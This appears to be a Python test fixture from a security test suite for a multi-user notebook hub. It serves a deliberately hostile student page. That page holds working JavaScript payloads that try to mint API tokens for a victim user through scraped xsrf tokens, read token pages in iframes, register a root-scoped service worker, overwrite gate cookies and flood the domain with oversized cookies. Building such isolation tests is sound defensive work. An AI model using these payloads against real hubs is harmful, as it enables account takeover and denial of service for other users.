"""Hostile server: a student's server that answers whatever the student wants, as the proxy's target in place of it."""

from __future__ import annotations

import contextlib
import http.server
import json
import threading
from typing import TYPE_CHECKING, Self
from urllib.parse import quote

import httpx

from behaviour.deployment import as_seen_here, read_settings

if TYPE_CHECKING:
    from types import TracebackType

    from behaviour.conftest import Server as Verb
    from behaviour.servers import Server

ATTACK = """<!doctype html><title>Owned</title><script>
async function attack() {
  const outcome = {};
  try {
    const registration = await navigator.serviceWorker.register("worker.js", {scope: "/"});
    outcome.worker = registration.scope;
  } catch (error) { outcome.worker = "refused"; }
  try {
    const page = await (await fetch("HUB/hub/token", {credentials: "include"})).text();
    const xsrf = page.match(/xsrf_token: "([^"]+)"/);
    const made = await fetch("HUB/hub/api/users/VICTIM/tokens?_xsrf=" + (xsrf ? xsrf[1] : ""),
      {method: "POST", credentials: "include", body: "{}"});
    outcome.token = made.status;
  } catch (error) { outcome.token = "refused"; }
  outcome.frame = await new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try { resolve(frame.contentDocument.body.innerText.includes("token") ? "read" : "refused"); }
      catch (error) { resolve("refused"); }
    };
    frame.src = "HUB/hub/token";
    document.documentElement.append(frame);
    setTimeout(() => resolve("refused"), 5000);
  });
  outcome.opener = window.opener === null ? "none" : "kept";
  try {
    outcome.server = (await fetch("/user/VICTIM/api/contents", {credentials: "include"})).status;
  } catch (error) { outcome.server = "refused"; }
  await fetch("report", {method: "POST", body: JSON.stringify(outcome)});
  for (const path of ["/", "/hub/", location.pathname]) {
    document.cookie = `classroom-gate=tossed; path=${path}`;
    document.cookie = `__Host-classroom-gate=tossed; path=${path}; secure`;
  }
  document.title = "Done";
}
attack();
</script>"""


BOMB = """<!doctype html><title>Owned</title><script>
for (let number = 0; number < 30; number++) {
  document.cookie = `bomb${number}=${"x".repeat(3900)}; path=/; domain=DOMAIN; max-age=99999`;
}
document.title = "Done";
</script>"""
"""Page that sets more cookies for a domain and those below it than any server reads."""


class HostileServer:
    """Server of a student who attacks each visitor; the proxy's route leads to it while the block runs.

    Attributes:
        requests: methods and paths that have arrived, with the cookies.
        reports: what the attacks of the page have reached.
    """

    def __init__(self, verb: Verb, student: Server, host: str = "", hub: str = "") -> None:
        self.requests: list[tuple[str, str, str]] = []
        self.reports: list[dict[str, object]] = []
        self.page = ATTACK.replace("HUB", hub)
        settings = read_settings(verb)
        socket = str(as_seen_here(settings["proxy"]["api"]))
        token = verb("exec", "cat", f"{settings['paths']['state']}/secrets/proxy-token").strip()
        self._api = httpx.Client(
            transport=httpx.HTTPTransport(uds=socket),
            base_url="http://proxy",
            headers={"Authorization": f"token {token}"},
        )
        self._route = f"/api/routes{'/' + host if host else ''}{student.base.rstrip('/')}"
        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        target = f"http://127.0.0.1:{self._server.server_port}"
        answer = self._api.get("/api/routes").json()
        self._before = next(
            (route for path, route in answer.items() if path.rstrip("/") == self._route.removeprefix("/api/routes")), {}
        )
        assert self._api.post(self._route, json={**self._before, "target": target}).status_code == 201
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        with contextlib.suppress(httpx.TransportError):
            self._api.post(self._route, json=self._before)
        self._server.shutdown()

    def attack(self, victim: str) -> None:
        """Let the page attack a user by name."""
        self.page = self.page.replace("VICTIM", quote(victim))

    def _handler(self) -> type[http.server.BaseHTTPRequestHandler]:
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                owner.requests.append(("GET", self.path, self.headers.get("Cookie", "")))
                is_worker = self.path.endswith("worker.js")
                content = b"self.addEventListener('fetch', () => {})" if is_worker else owner.page.encode()
                self._send(content, "text/javascript" if is_worker else "text/html")

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
                owner.requests.append(("POST", self.path, self.headers.get("Cookie", "")))
                if self.path.endswith("report"):
                    owner.reports.append(json.loads(body))
                self._send(b"", "text/plain")

            def _send(self, content: bytes, kind: str) -> None:
                self.send_response(200)
                for name, value in {
                    "Content-Type": kind,
                    "Content-Length": str(len(content)),
                    "Service-Worker-Allowed": "/",
                    "Cache-Control": "public, max-age=100000, immutable",
                    "Clear-Site-Data": '"cookies", "storage"',
                }.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(content)

            def log_message(self, format: str, *arguments: object) -> None:  # noqa: A002 - the signature is http.server's
                del format, arguments

        return Handler
